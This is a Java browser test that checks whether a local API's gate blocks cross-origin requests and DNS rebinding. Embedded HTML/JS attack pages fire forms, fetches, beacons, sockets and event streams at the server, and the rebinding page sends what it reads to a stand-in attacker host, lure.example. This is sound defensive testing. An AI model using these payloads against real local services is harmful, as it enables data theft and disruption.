package dev.redrill.api;

import static org.assertj.core.api.Assertions.assertThat;

import dev.redrill.NeedsBrowser;
import dev.redrill.TestBrowser;
import dev.redrill.TestRedis;
import dev.redrill.Wait;
import dev.redrill.api.gate.Gate;
import dev.redrill.api.http.Guard;
import dev.redrill.api.http.Overdue;
import dev.redrill.api.http.RequestHandler;
import dev.redrill.api.http.Router;
import dev.redrill.api.http.Streams;
import dev.redrill.config.ApiSettings;
import dev.redrill.drill.Runs;
import dev.redrill.time.TimeSource;
import dev.redrill.ui.FakeSession;
import dev.redrill.ui.FakeTargets;
import dev.redrill.ui.Moments;

import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.net.InetAddress;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Pages in a real browser that try to break the target and to read what we say. Each runs twice:
 * against us, and against the same server with its gate open, where it must succeed, or it would
 * show nothing.
 */
@NeedsBrowser
class BrowserTest {
    private static final Duration PATIENCE = Duration.ofSeconds(60);
    private static final Guard OPEN = (_, _, _) -> Optional.empty();
    private static final Guard OURS = new Gate(ApiSettings.STANDARD);
    private static final String LURE = "http://lure.example:";
    private static final String NAMES = "MAP *.example 127.0.0.1";

    private final FakeSession session = FakeSession.embedded().show(Moments.connected());

    /** Our server behind a given guard. */
    private final class Behind implements AutoCloseable {
        private final TimeSource time = TimeSource.system();
        private final FakeTargets targets = FakeTargets.with(session);
        private final Runs runs = new Runs(targets, time);
        private final Api api = Api.create(targets, runs, ApiSettings.STANDARD, null, time);
        private final Overdue overdue = new Overdue(time);
        private final Streams streams = new Streams();
        private final Listeners listeners;

        Behind(Guard guard, int port) throws IOException {
            var front = new RequestHandler(guard, new Router(api.routes()), overdue, streams);
            var here = List.of(InetAddress.ofLiteral("127.0.0.1"));
            listeners = Listeners.open(here, port, front, new AtomicInteger());
        }

        @Override
        public void close() {
            streams.close();
            listeners.close();
            overdue.close();
            api.close();
        }
    }

    /** Every way that a page of another origin has of sending something. */
    private static String page(int api) {
        return """
        <!DOCTYPE html><title>lure</title>
        <iframe name=sink></iframe>
        <form id=form method=post target=sink action="http://localhost:%1$d/simulate-crash"></form>
        <script>
          const api = 'http://localhost:%1$d';
          const report = (what, said) => fetch('/report?' + what + '=' + encodeURIComponent(said));
          const outcome = (what, promise) => promise.then(t => report(what, 'read ' + t), e => report(what, 'nothing'));
          const element = (what, e, src) => { e.onload = () => report(what, 'loaded'); e.onerror = () => report(what, 'nothing'); e.src = src; document.body.append(e); };
          addEventListener('load', () => {
            document.getElementById('form').submit();
            outcome('no-cors', fetch(api + '/simulate-restart', {method: 'POST', mode: 'no-cors'}).then(r => r.text()).then(t => { if (!t) throw t; return t; }));
            navigator.sendBeacon(api + '/reconnect');
            outcome('cors', fetch(api + '/status').then(r => r.text()));
            outcome('token', fetch(api + '/reconnect', {method: 'POST', headers: {Authorization: 'Bearer x'}}).then(r => r.text()));
            element('image', new Image(), api + '/status');
            element('script', document.createElement('script'), api + '/status');
            const socket = new WebSocket('ws://localhost:%1$d/events');
            socket.onopen = () => report('socket', 'read');
            socket.onerror = () => report('socket', 'nothing');
            const events = new EventSource(api + '/events');
            events.onopen = () => report('events', 'read');
            events.onerror = () => { events.close(); report('events', 'nothing'); };
            setTimeout(() => report('ran', 'to its end'), 3000);
          });
        </script>
        """
                .formatted(api);
    }

    /**
     * A page whose name is made to lead to us after it was loaded; to the browser it is of our
     * origin then.
     */
    private static String rebound(int attacker) {
        return """
        <!DOCTYPE html><title>rebound</title>
        <script>
          const report = (what, said) => fetch('http://lure.example:%d/report?' + what + '=' + encodeURIComponent(said), {mode: 'no-cors'});
          const tell = (what, promise) => promise.then(r => r.text().then(t => report(what, r.status + ' ' + t)), e => report(what, 'nothing'));
          const attack = async () => {
            const there = await fetch('/rebound').then(r => r.headers.get('X-Content-Type-Options') !== null, _ => false);
            if (!there) return setTimeout(attack, 200);
            await tell('get', fetch('/status'));
            await tell('post', fetch('/simulate-crash', {method: 'POST'}));
            await report('ran', 'to its end');
          };
          report('loaded', 'yes').then(attack);
        </script>
        """
                .formatted(attacker);
    }

    private Map<String, String> lure(Guard guard) throws Exception {
        try (var behind = new Behind(guard, 0);
                var attacker = new Attacker(0, Map.of("/", page(behind.listeners.port())));
                var _ = TestBrowser.open(LURE + attacker.port() + "/", NAMES)) {
            Wait.until("the page ran", PATIENCE, () -> attacker.reports().containsKey("ran"));
            return Map.copyOf(attacker.reports());
        }
    }

    private Map<String, String> rebind(Guard guard) throws Exception {
        int port = TestRedis.freePort();
        try (var attacker = new Attacker(0, Map.of())) {
            var before = new Attacker(port, Map.of("/", rebound(attacker.port())));
            try (before;
                    var _ = TestBrowser.open("http://evil.example:" + port + "/", NAMES)) {
                Wait.until("loaded", PATIENCE, () -> attacker.reports().containsKey("loaded"));
                before.close();
                try (var _ = new Behind(guard, port)) {
                    Wait.until("it ran", PATIENCE, () -> attacker.reports().containsKey("ran"));
                }
            }
            return Map.copyOf(attacker.reports());
        }
    }

    @Test
    void noPageOfAnotherOriginChangesOrReadsAnything() throws Exception {
        Map<String, String> reports = lure(OURS);

        assertThat(session.calls).isEmpty();
        assertThat(reports).containsEntry("ran", "to its end");
        for (String attack :
                List.of("no-cors", "cors", "token", "image", "script", "socket", "events")) {
            assertThat(reports).containsEntry(attack, "nothing");
        }
    }

    @Test
    void withTheGateOpenTheSamePageBreaksTheTarget() throws Exception {
        Map<String, String> reports = lure(OPEN);

        assertThat(session.calls).contains("kill", "restart", "reconnect");
        assertThat(reports).containsKey("ran");
    }

    @Test
    void aReboundNameIsMisdirected() throws Exception {
        Map<String, String> reports = rebind(OURS);

        assertThat(session.calls).isEmpty();
        assertThat(reports.get("get")).startsWith("421 ").doesNotContain("overall");
        assertThat(reports.get("post")).startsWith("421 ");
    }

    @Test
    void withTheGateOpenAReboundNameReadsAndBreaks() throws Exception {
        Map<String, String> reports = rebind(OPEN);

        assertThat(reports.get("get")).startsWith("200 ").contains("\"overall\":\"ready\"");
        assertThat(reports.get("post")).startsWith("202 ");
        assertThat(session.calls).contains("kill");
    }
}
